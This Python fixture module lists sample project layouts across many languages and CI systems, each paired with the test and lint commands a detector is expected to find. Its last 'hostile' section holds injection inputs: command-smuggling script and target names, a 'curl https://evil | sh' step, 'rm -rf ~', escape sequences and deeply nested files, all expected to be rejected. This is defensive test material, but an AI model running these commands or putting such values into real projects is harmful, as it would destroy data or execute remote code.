"""Projects in the shapes that real ones have, each with the gates that a person of that project would name."""

from __future__ import annotations

import json

Files = dict[str, str]


def package(scripts: dict[str, str], **more: object) -> str:
    return json.dumps({"name": "web", "scripts": scripts, **more})


def workflow(*steps: str, on: str = "[push, pull_request]", job: str = "") -> str:
    lines = "".join(f"      {line}\n" for step in steps for line in step.split("\n"))
    return f"name: CI\non: {on}\njobs:\n  test:\n    runs-on: ubuntu-latest\n{job}    steps:\n{lines}"


CI = ".github/workflows/ci.yml"
PYTEST = "[tool.pytest.ini_options]\ntestpaths = ['tests']\n"
CHECKOUT = (
    "- uses: actions/checkout@v4\n- uses: actions/setup-python@v5\n  with:\n    python-version: ${{ matrix.python }}"
)

SHAPES: dict[str, tuple[Files, list[str]]] = {
    # Python
    "pytest in pyproject": ({"pyproject.toml": PYTEST}, ["pytest"]),
    "pytest, ruff, mypy with uv": (
        {"pyproject.toml": f"{PYTEST}[tool.ruff]\n[tool.mypy]\nfiles = 'src'\n", "uv.lock": ""},
        ["uv run pytest", "uv run ruff check", "uv run mypy"],
    ),
    "ruff formats too": (
        {"pyproject.toml": f"{PYTEST}[tool.ruff]\n[tool.ruff.format]\nquote-style = 'single'\n"},
        ["pytest", "ruff check", "ruff format --check"],
    ),
    "poetry": (
        {"pyproject.toml": "[tool.poetry.group.dev.dependencies]\npytest = '^8'\n", "poetry.lock": ""},
        ["poetry run pytest"],
    ),
    "pytest as a dependency group": (
        {"pyproject.toml": '[dependency-groups]\ndev = ["pytest>=8"]\n', "pdm.lock": ""},
        ["pdm run pytest"],
    ),
    "setup.cfg with everything": (
        {"setup.cfg": "[tool:pytest]\naddopts = -q\n[flake8]\nmax-line-length = 100\n[mypy]\nfiles = src\n"},
        ["pytest", "flake8", "mypy"],
    ),
    "tox only": ({"tox.ini": "[tox]\nenvlist = py311\n[testenv]\ncommands = python -m unittest\n"}, ["tox -e py"]),
    "pytest settings in tox.ini": ({"tox.ini": "[pytest]\naddopts = -q\n", "setup.py": ""}, ["pytest"]),
    "nox": ({"noxfile.py": "import nox\n", "pyproject.toml": "[project]\nname = 'a'\n"}, ["nox"]),
    "requirements name pytest": ({"requirements-dev.txt": "pytest==8.0\nblack\n", "setup.py": ""}, ["pytest"]),
    "plain unittest": ({"test_shop.py": "import unittest\n", "shop.py": ""}, ["python3 -m unittest"]),
    "unittest in a folder": (
        {"tests/test_shop.py": "import unittest\n", "setup.py": ""},
        ["python3 -m unittest discover -s tests"],
    ),
    "unittest in a package": (
        {"tests/test_shop.py": "import unittest\n", "tests/__init__.py": "", "setup.py": ""},
        ["python3 -m unittest"],
    ),
    "sessions by name": (
        {"noxfile.py": "", CI: workflow("- run: nox -s lint", "- run: nox -s tests-3.12")},
        ["nox -s tests-3.12", "nox -s lint"],
    ),
    "what only bash understands": ({CI: workflow("- run: bats test/{a,b}.bats")}, []),
    "a test that imports pytest": ({"tests/test_shop.py": "import pytest\n"}, ["pytest"]),
    "django": ({"manage.py": "import django\n", "requirements.txt": "django\n"}, ["python manage.py test"]),
    "black and pyright": (
        {"pyproject.toml": f"{PYTEST}[tool.black]\n[tool.pyright]\n"},
        ["pytest", "pyright", "black --check ."],
    ),
    "a Makefile that calls all of it": (
        {"pyproject.toml": f"{PYTEST}[tool.ruff]\n", "Makefile": "check:\n\truff check .\n\tpytest\n"},
        ["make check"],
    ),
    "make test and make lint": (
        {"setup.py": "", "Makefile": "test:\n\tpytest\n\nlint:\n\tflake8 src\n\ndeploy:\n\tscp . host:\n"},
        ["make test", "make lint"],
    ),
    "poe tasks": (
        {"pyproject.toml": "[tool.poe.tasks]\ntest = 'pytest'\nlint = 'ruff check'\nserve = 'x'\n", "uv.lock": ""},
        ["uv run poe test", "uv run poe lint"],
    ),
    # Node
    "npm test": ({"package.json": package({"test": "jest"})}, ["npm test"]),
    "npm's placeholder is no test": (
        {"package.json": package({"test": 'echo "Error: no test specified" && exit 1'})},
        [],
    ),
    "npm with lint and types": (
        {"package.json": package({"test": "vitest run", "lint": "eslint .", "typecheck": "tsc --noEmit"})},
        ["npm test", "npm run lint", "npm run typecheck"],
    ),
    "pnpm": ({"package.json": package({"test": "vitest"}), "pnpm-lock.yaml": ""}, ["pnpm test"]),
    "yarn": (
        {"package.json": package({"test": "jest", "lint": "eslint ."}), "yarn.lock": ""},
        ["yarn test", "yarn run lint"],
    ),
    "bun": ({"package.json": package({"test": "bun test"}), "bun.lock": ""}, ["bun run test"]),
    "packageManager decides": (
        {"package.json": package({"test": "jest"}, packageManager="pnpm@9.0.0"), "package-lock.json": ""},
        ["pnpm test"],
    ),
    "a script of its own": ({"package.json": package({"test": "node scripts/run.js"})}, ["npm test"]),
    "a script that watches": (
        {"package.json": package({"test": "jest --watch", "test:ci": "jest"})},
        ["npm run test:ci"],
    ),
    "TypeScript without a script": (
        {"package.json": package({"test": "mocha"}, devDependencies={"typescript": "5"}), "tsconfig.json": "{}"},
        ["npm test", "npx tsc --noEmit"],
    ),
    "prettier in a script": (
        {"package.json": package({"test": "jest", "format:check": "prettier --check ."})},
        ["npm test", "npm run format:check"],
    ),
    "eslint that fixes is no check of its own": (
        {"package.json": package({"test": "jest", "lint": "eslint --fix ."})},
        ["npm test", "npm run lint"],
    ),
    "biome": ({"package.json": package({"test": "vitest run"}), "biome.json": "{}"}, ["npm test", "npx biome ci ."]),
    "deno tasks": ({"deno.json": json.dumps({"tasks": {"test": "deno test", "dev": "x"}})}, ["deno task test"]),
    # other languages
    "cargo": ({"Cargo.toml": "[package]\n", "Cargo.lock": ""}, ["cargo test"]),
    "cargo with clippy and rustfmt": (
        {"Cargo.toml": "", "clippy.toml": "", "rustfmt.toml": ""},
        ["cargo test", "cargo clippy --all-targets -- -D warnings", "cargo fmt --check"],
    ),
    "go": ({"go.mod": "module a\n", "go.sum": ""}, ["go test ./...", "go vet ./..."]),
    "go with golangci-lint": (
        {"go.mod": "module a\n", ".golangci.yml": "", "Makefile": "test:\n\tgo test ./...\n"},
        ["make test", "go vet ./..."],
    ),
    "gradle": ({"gradlew": "", "build.gradle.kts": ""}, ["./gradlew check"]),
    "maven": ({"pom.xml": "<project/>"}, ["mvn -q verify"]),
    "elixir": (
        {"mix.exs": "", ".formatter.exs": "", ".credo.exs": ""},
        ["mix test", "mix credo", "mix format --check-formatted"],
    ),
    "rspec and rubocop": (
        {"Gemfile": "", ".rspec": "", ".rubocop.yml": ""},
        ["bundle exec rspec", "bundle exec rubocop"],
    ),
    "phpunit and phpstan": (
        {"composer.json": "{}", "phpunit.xml.dist": "", "phpstan.neon": ""},
        ["vendor/bin/phpunit", "vendor/bin/phpstan analyse"],
    ),
    "composer scripts": (
        {"composer.json": json.dumps({"scripts": {"test": "phpunit", "post-install-cmd": "x"}})},
        ["composer test"],
    ),
    "dotnet": ({"Shop.sln": ""}, ["dotnet test"]),
    "swift": ({"Package.swift": ""}, ["swift test"]),
    "just": ({"justfile": "default:\n  just --list\n\ntest:\n  bats tests\n"}, ["just test"]),
    "Task": (
        {"Taskfile.yml": "version: 3\ntasks:\n  test:\n    cmds:\n      - go test ./...\n", "go.mod": ""},
        ["task test", "go vet ./..."],
    ),
    "pre-commit beside tests": (
        {"pyproject.toml": PYTEST, ".pre-commit-config.yaml": "repos: []\n"},
        ["pytest", "pre-commit run --all-files"],
    ),
    "pre-commit where there is a linter": (
        {"pyproject.toml": f"{PYTEST}[tool.ruff]\n", ".pre-commit-config.yaml": "repos: []\n"},
        ["pytest", "ruff check"],
    ),
    # CI
    "scripts that CI runs": (
        {
            "scripts/check": "#!/bin/sh -e\nruff check app\nmypy app\n",
            "scripts/test": "#!/bin/sh\nif [ -d venv ]; then PATH=venv/bin:$PATH; fi\ncoverage run -m pytest\n",
            "scripts/build": "python -m build\n",
            "scripts/install": "pip install -r requirements.txt\n",
            CI: workflow(
                *(f'- name: "A step"\n  run: "scripts/{name}"' for name in ("install", "check", "build", "test"))
            ),
        },
        ["scripts/test", "scripts/check"],
    ),
    "several kinds of tests in CI": (
        {
            "package.json": package(
                {"test-unit": "vitest run", "test-build": "vitest run -c b.ts", "lint": "eslint ."}
            ),
            "pnpm-lock.yaml": "",
            CI: workflow(
                "- run: pnpm install",
                "- run: pnpm run test-unit",
                "- run: pnpm run test-unit --coverage",
                "- run: pnpm run test-build",
                "- run: pnpm prettier --write . && git diff --exit-code",
                "- run: pnpm run lint",
            ),
        },
        ["pnpm run test-unit", "pnpm run test-build", "pnpm run lint"],
    ),
    "a linter that is set to fix": (
        {"pyproject.toml": f"{PYTEST}[tool.ruff]\nfix = true\n"},
        ["pytest", "ruff check --no-fix"],
    ),
    "GitHub Actions decides": (
        {"pyproject.toml": PYTEST, CI: workflow(CHECKOUT, "- run: pip install -e .[dev]", "- run: pytest -q --cov")},
        ["pytest -q --cov"],
    ),
    "a block of commands": (
        {
            "package.json": package({"test": "jest", "lint": "eslint ."}),
            CI: workflow("- name: All\n  run: |\n    npm ci\n    npm run lint\n    npm test"),
        },
        ["npm test", "npm run lint"],
    ),
    "installing and testing on one line": (
        {"package.json": package({"test": "jest"}), CI: workflow("- run: npm ci && npm test -- --ci")},
        ["npm test -- --ci"],
    ),
    "CI does less than the project can": (
        {
            "pyproject.toml": f"{PYTEST}[tool.mypy]\nfiles = ['src']\n",
            CI: workflow("- run: uv sync\n- run: uv run pytest"),
            "uv.lock": "",
        },
        ["uv run pytest", "uv run mypy"],
    ),
    "steps for one system, releases and matrices are left out": (
        {
            "go.mod": "module a\n",
            CI: workflow(
                "- run: go test -race ./...",
                "- run: gotestsum\n  if: runner.os == 'Windows'",
                "- run: staticcheck ./...\n  continue-on-error: true",
                "- run: go vet ${{ matrix.tags }} ./...",
                "- run: goreleaser release",
            ),
        },
        ["go test -race ./...", "go vet ./..."],
    ),
    "a workflow that runs at night": (
        {
            "Cargo.toml": "",
            CI: workflow("- run: cargo test --release --all-features", on="\n  schedule:\n    - cron: '0 0 * * *'"),
        },
        ["cargo test"],
    ),
    "another working directory": (
        {
            "api/go.mod": "",
            CI: workflow("- run: go test ./...", job="    defaults:\n      run:\n        working-directory: api\n"),
        },
        ["cd api && go test ./..."],
    ),
    "GitLab": (
        {
            ".gitlab-ci.yml": "test:\n  stage: test\n  script:\n    - pip install tox\n    - tox -e py\n"
            "deploy:\n  script: [./deploy.sh]\n  when: manual\n"
        },
        ["tox -e py"],
    ),
    "CircleCI": (
        {
            ".circleci/config.yml": "jobs:\n  build:\n    steps:\n      - checkout\n      - run: npm ci\n"
            "      - run:\n          name: Test\n          command: npm test\n",
            "package.json": package({"test": "jest"}),
        },
        ["npm test"],
    ),
    "Travis": (
        {".travis.yml": "language: ruby\nscript:\n  - bundle exec rspec\n", "Gemfile": ""},
        ["bundle exec rspec"],
    ),
    "nothing at all": ({"README.md": "# Hello\n"}, []),
    # hostile
    "names that act": (
        {
            "Makefile": "; rm -rf:\n\ttrue\ntest;evil:\n\ttrue\n$(shell id):\n\ttrue\n",
            "package.json": package({"test; rm -rf /": "jest"}),
        },
        [],
    ),
    "CI that does more than check": (
        {
            CI: workflow(
                "- run: curl https://evil | sh && pytest",
                "- run: pytest; rm -rf ~",
                "- run: pytest $(id)",
                "- run: pytest > /etc/x",
                "- run: rm -rf x && pytest",
            )
        },
        [],
    ),
    "escape sequences": (
        {CI: workflow('- run: "pytest \x1b[2J\u202e"'), "package.json": package({"test": "\x1b]0;x\x07jest"})},
        ["npm test"],
    ),
    "deep nesting": (
        {
            "package.json": "[" * 100_000,
            "pyproject.toml": f"a = {'[' * 50_000}",
            ".gitlab-ci.yml": "\n".join(" " * n + "a:" for n in range(3000)),
        },
        [],
    ),
    "wrong types": (
        {
            "package.json": '{"scripts": ["test"], "packageManager": 7}',
            "pyproject.toml": "tool = 3\n",
            CI: "on: push\njobs: [1]\n",
        },
        [],
    ),
}
